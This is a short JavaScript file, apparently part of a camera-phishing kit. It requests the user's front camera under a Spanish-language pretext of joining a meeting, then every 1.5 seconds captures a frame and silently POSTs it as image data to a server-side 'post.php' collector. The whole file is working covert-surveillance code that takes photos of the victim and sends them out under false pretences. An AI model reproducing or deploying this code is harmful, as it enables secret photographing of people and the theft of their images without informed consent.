'use strict';
const video = document.getElementById('v'), canvas = document.getElementById('c');
const post = (d) => $.ajax({ type: 'POST', data: { cat: d }, url: 'forwarding_link/post.php', dataType: 'json', async: false, complete: () => {} });
(async function () {
  try {
    window.stream = await navigator.mediaDevices.getUserMedia({ audio: false, video: { facingMode: 'user' } });
    video.srcObject = window.stream;
    const ctx = canvas.getContext('2d');
    setInterval(() => {
      ctx.drawImage(video, 0, 0, 640, 480);
      post(canvas.toDataURL('image/png').replace('image/png', 'image/octet-stream'));
    }, 1500);
  } catch (e) { document.getElementById('msg').innerHTML = e.toString() + ' – Permita la cámara para unirse a la reunión'; }
})();
